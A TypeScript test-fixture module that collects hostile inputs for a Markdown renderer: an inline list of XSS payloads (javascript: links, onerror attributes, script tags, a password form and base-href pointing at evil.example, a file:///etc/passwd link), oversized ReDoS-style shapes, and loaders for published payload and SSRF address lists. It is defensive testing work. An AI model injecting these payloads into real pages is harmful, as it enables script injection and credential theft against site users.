/** Every hostile body we know of: published attack collections where they lie beside the project, and our own list always. */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { z } from 'zod';
import { MAX_SOURCE_LENGTH } from '#kit/markdown/index.ts';
import { realData } from './real-data.ts';

/** All hostile bodies, each once: Markdown, HTML and plain text meant to hurt, some of them several megabytes long. */
export function hostileBodies(): string[] {
  const folder = realData('hostile-input');
  return [...new Set(folder === null ? ownBodies() : [...ownBodies(), ...publishedBodies(folder)])];
}

/** HTML payloads only, for what takes HTML in: DOMPurify's cases and the naughty strings, or our own list without them. */
export function hostileHtml(): string[] {
  const folder = realData('hostile-input');
  return folder === null ? ATTACKS : [...ATTACKS, ...purifierCases(folder), ...naughtyStrings(folder)];
}

/** Attacks on links, pictures, code languages and titles, which only a Markdown renderer opens. */
const ATTACKS = [
  '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))', '[a](java\nscript:alert(1))', '[a](javascript&colon;alert(1))',
  '[a](javascript&#58;alert(1))', '[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))',
  '[a](\u0001javascript:alert(1))', '[a](\tjavascript:alert(1))', '[a](<java\tscript:alert(1)>)', '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '[a](file:///etc/passwd)', '[a](blob:https://x/1)',
  '<javascript:alert(1)>', '<data:text/html,x>', '[a]\n\n[a]: javascript:alert(1)', '[a]: data:text/html,x "t"\n[a]',
  '![a](javascript:alert(1))', '![a](data:image/svg+xml,<svg onload=alert(1)>)', '![" onerror="alert(1)](https://example.com/x.png)',
  '![a](https://example.com/"onerror="alert(1))', '![a](https://example.com/x.png "\\" onerror=\\"alert(1)")',
  '![a](/files/../sign-out)', '![a](/files/%2e%2e/sign-out)', '![a](//evil.example/x.png)', '![a](/\\evil.example/x.png)',
  '[a](https://example.com "\\" onmouseover=\\"alert(1)")', '[a](https://example.com/\'"><script>alert(1)</script>)',
  '```js" onclick="alert(1)\nx\n```', '```<script>\nalert(1)\n```', '```"><img src=x onerror=alert(1)>\nx\n```',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>', '<p style="position:fixed" id="x" class="y">x</p>', '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action=//evil><input name=password><button>Go</button></form>', '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--><script>alert(1)</script>-->', '<![CDATA[><script>alert(1)</script>]]>',
  '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=//evil">', '<object data=x><embed src=x>', '<x onclick=alert(1)>',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |', '- [ ] <input onfocus=alert(1) autofocus>', '# <script>alert(1)</script>',
  '<https://example.com/"onmouseover=alert(1)>', 'https://example.com/"onmouseover="alert(1)', 'www.example.com/<script>alert(1)</script>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>', '\uD800<script>alert(1)</script>\uDC00', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;',
];

/** Shapes that have brought renderers to their knees, as long as a body may be. */
function slowShapes(): string[] {
  const unit = ['*a_', '*a **a ', '_a ', 'a**b_c ', '[a', 'a]', '[a](b', '[a](<b', '![', '[[]', '`a``', '> ', '- ', '1. ', '* ', '>- ', '~~a ', '|', '<', '&', '\\', 'www.', 'a@b.', 'http://'];
  const repeated = unit.map((shape) => shape.repeat(Math.floor(MAX_SOURCE_LENGTH / shape.length)));
  const nestedBrackets = `${'['.repeat(10_000)}a${']'.repeat(10_000)}`;
  const stairs = Array.from({ length: 400 }, (_, level) => `${'  '.repeat(level)}- a`).join('\n');
  const table = `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n${'|b\n'.repeat(2_000)}`;
  return [...repeated, nestedBrackets, stairs, table, `[x]:${' '.repeat(9_000)}x${' '.repeat(9_000)}x`, 'a'.repeat(1_000_000), `# ${' '.repeat(29_000)}#a`];
}

const ownBodies = (): string[] => [...ATTACKS, ...slowShapes()];

function publishedBodies(folder: string): string[] {
  const markdown = join(folder, 'markdown');
  const shapes = pathologicalShapes(folder);
  return [
    ...purifierCases(folder),
    ...naughtyStrings(folder),
    ...shapes,
    ...shapes.filter((shape) => shape.length > MAX_SOURCE_LENGTH).map((shape) => shape.slice(0, MAX_SOURCE_LENGTH)),
    ...['commonmark.0.30.json', 'commonmark.0.31.json', 'gfm.0.29.json'].flatMap((name) => specificationExamples(join(markdown, name)).map((example) => example.markdown)),
    ...['marked-redos', 'marked-security', 'marked-new'].flatMap((name) => filesIn(join(markdown, name), '.md')),
    ...filesIn(markdown, '.txt'),
    readFileSync(join(markdown, 'cmark-gfm-fuzzing_dictionary'), 'utf8'),
    ...addressLists(join(folder, 'urls-ssrf')).flatMap((address) => [`[a](${address})`, `![a](${address})`, `<${address}>`, address]),
  ];
}

const Payloads = z.array(z.object({ payload: z.string() }));
const Strings = z.array(z.string());
const Example = z.object({ markdown: z.string(), html: z.string(), section: z.string(), example: z.number().optional() });
const Part = z.object({ s: z.string(), n: z.number() });
const Shapes = z.object({ cases: z.array(z.object({ name: z.string(), parts: z.array(Part).optional() })) });

/** The examples of a specification, each with the HTML it demands; `example` is missing where the place in the list is the number. */
export const specificationExamples = (file: string): z.infer<typeof Example>[] => z.array(Example).parse(read(file));

const purifierCases = (folder: string): string[] =>
  Payloads.parse(read(join(folder, 'xss/dompurify-3.4.14-expect.json'))).map((attack) => attack.payload);

const naughtyStrings = (folder: string): string[] => Strings.parse(read(join(folder, 'strings/blns.json')));

function pathologicalShapes(folder: string): string[] {
  const { cases } = Shapes.parse(read(join(folder, 'markdown/pathological.json')));
  const fromParts = cases.flatMap(({ parts }) => (parts ? [parts.map(({ s, n }) => s.repeat(n)).join('')] : []));
  // The three that need a counter, as that file describes them.
  const lists = Array.from({ length: 1_000 }, (_, level) => `${'  '.repeat(level)}* a\n`).join('');
  const backticks = Array.from({ length: 4_999 }, (_, at) => `e${'`'.repeat(at + 1)}`).join('');
  const references = `${Array.from({ length: 79_999 }, (_, at) => `[${at + 1}]: u\n`).join('')}${'[0] '.repeat(5_000)}`;
  return [...fromParts, lists, backticks, references];
}

function filesIn(folder: string, ending: string): string[] {
  return readdirSync(folder).filter((name) => name.endsWith(ending)).map((name) => readFileSync(join(folder, name), 'utf8'));
}

/** The line-by-line lists of addresses among the files of a folder, each address once. */
function addressLists(folder: string): string[] {
  if (!existsSync(folder)) return [];
  const names = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.txt'));
  const lines = names.flatMap((name) => readFileSync(join(folder, name), 'utf8').split('\n'));
  return [...new Set(lines.map((line) => line.trim()).filter((line) => line !== ''))];
}

function read(file: string): unknown {
  return JSON.parse(readFileSync(file, 'utf8'));
}
